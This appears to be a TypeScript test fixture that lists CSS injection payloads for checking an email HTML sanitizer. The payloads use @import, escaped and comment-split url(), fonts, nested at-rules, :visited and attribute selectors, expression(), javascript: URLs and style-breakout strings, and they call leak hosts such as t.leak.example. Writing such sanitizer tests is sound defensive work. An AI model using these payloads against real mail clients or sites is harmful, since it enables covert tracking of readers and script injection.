import { type AttackRow, leak, run } from './Attack'

/** Bodies that try to fetch or to spy by a style sheet. */
export const sheetAttacks: readonly AttackRow[] = [
  ['import', `<style>@import "${leak('import1')}"; @import url(${leak('import2')}); p{color:red}</style>`],
  [
    'import written with escapes',
    `<style>@\\69mport "${leak('import-esc')}"; @im/**/port "${leak('import-com')}";</style>`,
  ],
  [
    'import in a broken block',
    `<style>{ } @import '${leak('broken')}'; } @import url('${leak('broken2')}')</style>`,
  ],
  [
    'url in a rule',
    `<style>body{background:url(${leak('rule')})} p{list-style:url("${leak('list')}");border-image:url('${leak('border')}') 30}</style>`,
  ],
  [
    'url with escapes',
    `<p style="background:\\75\\72\\6c(${leak('esc1')})">x</p><p style="background:u\\rl('${leak('esc2')}')">y</p>`,
  ],
  [
    'url split by comments',
    `<p style="background:/**/url(/**/${leak('comment')})">x</p><p style="ba/**/ckground:url(${leak('comment2')})">y</p>`,
  ],
  [
    'url without end',
    `<p style="background:url(${leak('unclosed')}">x</p><style>p{background:url("${leak('unclosed2')}`,
  ],
  [
    'image-set and cross-fade',
    `<p style="background:image-set('${leak('set')}' 1x)">x</p><p style="background:-webkit-image-set(url(${leak('wset')}) 1x)">y</p><p style="background:-webkit-cross-fade(url(${leak('fade')}),url(${leak('fade2')}),50%)">z</p>`,
  ],
  [
    'custom property',
    `<style>:root{--a:url(${leak('var')});--b:u\\72l(${leak('var2')})} p{background:var(--a);list-style-image:var(--b);content:var(--a)}</style><p>x</p>`,
  ],
  [
    'custom property of ours',
    `<style>:root{--mailroom-inline-0:url(${leak('ours')})}p{background:var(--mailroom-inline-0)}</style><p style="--mailroom-inline-0:url(${leak('ours2')})">x</p>`,
  ],
  [
    'fallback of a variable',
    `<p style="background:var(--nope,url(${leak('fallback')}))">x</p><p style="background-image:var(--x,image-set('${leak('fallback2')}' 1x))">y</p>`,
  ],
  [
    'content, cursor, filter, mask, clip-path',
    `<style>p::before{content:url(${leak('content')})}p{cursor:url(${leak('cur')}),auto;filter:url(${leak('filter')}#a);mask:url(${leak('maskcss')});-webkit-mask-image:url(${leak('wmask')});clip-path:url(${leak('clip')}#a);shape-outside:url(${leak('shape')});offset-path:url(${leak('offset')}#a);-webkit-box-reflect:below 0 url(${leak('reflect')})}</style><p>x</p>`,
  ],
  [
    'font',
    `<style>@font-face{font-family:f;src:url(${leak('font')})}@font-face{font-family:g;src:local(x),url("${leak('font2')}") format("woff")}p{font-family:f,g}</style><p>x</p>`,
  ],
  [
    'rules inside rules',
    `<style>@media screen{@supports (color:red){p{background:url(${leak('deep')});& b{background:url(${leak('nest')})}}}}@layer a{p{background:url(${leak('layer')})}}@container (width>1px){p{background:url(${leak('container')})}}@scope (p){b{background:url(${leak('scope')})}}@starting-style{p{background:url(${leak('start')})}}</style><p>x<b>y</b></p>`,
  ],
  [
    'keyframes',
    `<style>@keyframes k{from{background:url(${leak('kf')})}to{background-image:image-set("${leak('kf2')}" 1x)}}p{animation:k 1s infinite}</style><p>x</p>`,
  ],
  [
    'page, namespace, charset, property',
    `<style>@page{background:url(${leak('page')})}@namespace x url(${leak('ns')});@property --p{syntax:"<url>";inherits:false;initial-value:url(${leak('prop')})}@counter-style c{symbols:url(${leak('counter')})}p{background:var(--p)}</style><p>x</p>`,
  ],
  [
    'condition with an address',
    `<style>@supports (background:url(${leak('supports')})){p{color:red}}@media (min-width:1px) and (x:url(${leak('media')})){p{color:red}}@document url(${leak('document')}){p{color:red}}</style>`,
  ],
  [
    'selectors that spy',
    `<style>a[href^="h"]{background:url(${leak('sel')})}a:visited{background:url(${leak('visited')})}p:hover{background:url(${leak('hover')})}a:active{background:url(${leak('active')})}::selection{background:url(${leak('selection')})}p::first-line{background:url(${leak('line')})}</style><a href="https://a.example">x</a><p>y</p>`,
  ],
  [
    'print, dark and size only',
    `<style>@media print{p{background:url(${leak('print')})}}@media (prefers-color-scheme:dark){p{background:url(${leak('dark')})}}@media (max-width:9999px){p{background:url(${leak('narrow')})}}</style><p>x</p>`,
  ],
  [
    'expression, behavior, binding',
    `<p style="width:expression(${run});behavior:url(${leak('htc')});-moz-binding:url(${leak('xbl')}#x)">x</p>`,
  ],
  [
    'javascript in css',
    `<p style="background:url(javascript:${run});list-style-image:url('javascript:${run}')">x</p>`,
  ],
  [
    'string that ends the element',
    `<style>p::after{content:"\\3c/style>\\3cimg src=x: onerror=${run}>"} q{content:'</sty'}</style><p>x</p>`,
  ],
  [
    'style type and media tricks',
    `<style type="text/css" media="all" nonce="x">@import url(//t.leak.example/x);</style><style type="text/plain">@import url(//t2.leak.example/x);</style>`,
  ],
  [
    'style inside the body and a comment',
    `<div><style><!-- @import url(${leak('cdo')}); p{background:url(${leak('cdo2')})} --></style><p>x</p></div>`,
  ],
  [
    'nested quotes and newlines',
    `<p style='background:url("${leak('quote')}'>x</p><p style="background:url('${leak('newline')}\n')">y</p><p style="background:url(&quot;${leak('entity')}&quot;)">z</p>`,
  ],
  [
    'attr() as an address',
    `<p data-u="${leak('attr')}" title="${leak('attr2')}" style="background:attr(title type(<url>));background-image:image-set(attr(title))">x</p>`,
  ],
  [
    'src() and future functions',
    `<p style="background:src('${leak('src')}');background-image:image('${leak('image')}');background-image:element(#x);background-image:paint(x)">x</p>`,
  ],
]
